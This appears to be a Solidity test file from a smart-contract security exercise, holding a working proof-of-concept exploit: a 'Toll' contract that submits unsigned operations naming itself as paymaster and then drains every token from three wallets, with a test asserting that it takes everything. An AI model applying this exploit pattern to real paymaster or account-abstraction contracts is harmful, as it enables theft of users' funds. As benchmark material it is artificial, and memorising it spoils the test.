// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Hub, Operation} from "../paymaster-validation/src/Hub.sol";
import {Paymaster} from "../paymaster-validation/src/Paymaster.sol";
import {Wallet} from "../paymaster-validation/src/Wallet.sol";
import {IERC20, Token} from "../../shared/Erc20.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
}

/// Names itself as the paymaster of operations that nobody signed.
contract Toll {
    function run(Hub hub, Wallet wallet, IERC20 token) external {
        uint256 held = token.balanceOf(address(wallet));
        Operation memory operation =
            Operation(wallet, 0, address(0), 0, "", address(this), token, held, 0, bytes32(0), bytes32(0));
        hub.handle(operation);
        token.transferFrom(address(wallet), address(this), held);
    }
}

contract PaymasterValidationTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant ALICE = uint256(keccak256("paymaster-validation alice"));
    uint256 private constant BOB = uint256(keccak256("paymaster-validation bob"));
    address private constant CAROL = address(0xCA401);
    address private constant RELAYER = address(0x4E1A);

    event Profit(uint256 pesos);

    Token private peso;
    Token private maize;
    Hub private hub;
    Wallet private alices;
    Wallet private bobs;
    Wallet private carols;
    Toll private toll;

    function setUp() public {
        peso = new Token("Peso", "PSO");
        maize = new Token("Maize", "MZE");
        hub = new Hub();
        IERC20[] memory tokens = new IERC20[](2);
        uint256[] memory minima = new uint256[](2);
        (tokens[0], tokens[1]) = (peso, maize);
        (minima[0], minima[1]) = (2 ether, 0.2 ether);
        Paymaster paymaster = new Paymaster(address(hub), tokens, minima);
        alices = new Wallet(hub, vm.addr(ALICE));
        bobs = new Wallet(hub, vm.addr(BOB));
        carols = new Wallet(hub, CAROL);
        toll = new Toll();

        peso.mint(address(alices), 820_000 ether);
        maize.mint(address(alices), 15_000 ether);
        peso.mint(address(bobs), 460_000 ether);
        maize.mint(address(carols), 70_000 ether);
        peso.mint(address(carols), 1_200 ether);
        peso.mint(address(toll), 4_000 ether);

        bytes memory data = abi.encodeCall(IERC20.transfer, (address(bobs), 5_000 ether));
        _handle(ALICE, Operation(alices, 0, address(peso), 0, data, address(paymaster), peso, 3 ether, 0, 0, 0));
        data = abi.encodeCall(IERC20.transfer, (CAROL, 40 ether));
        _handle(BOB, Operation(bobs, 0, address(peso), 0, data, address(0), IERC20(address(0)), 0, 0, 0, 0));
        vm.prank(CAROL);
        carols.send(maize, vm.addr(BOB), 50 ether);
    }

    function _handle(uint256 key, Operation memory operation) private {
        (operation.v, operation.r, operation.s) = vm.sign(key, hub.digestOf(operation));
        vm.prank(RELAYER);
        require(hub.handle(operation), "refused");
    }

    function _worth(address who) private view returns (uint256) {
        return peso.balanceOf(who) + 12 * maize.balanceOf(who);
    }

    function test_attack_pays() public {
        require(peso.balanceOf(RELAYER) == 2.88 ether && peso.balanceOf(CAROL) == 40 ether, "another set-up");
        uint256 before = _worth(address(toll));
        uint256 there = _worth(address(alices)) + _worth(address(bobs)) + _worth(address(carols));
        toll.run(hub, alices, peso);
        toll.run(hub, alices, maize);
        toll.run(hub, bobs, peso);
        toll.run(hub, carols, maize);
        toll.run(hub, carols, peso);
        uint256 profit = _worth(address(toll)) - before;
        emit Profit(profit);
        require(profit == there, "less than all");
    }
}
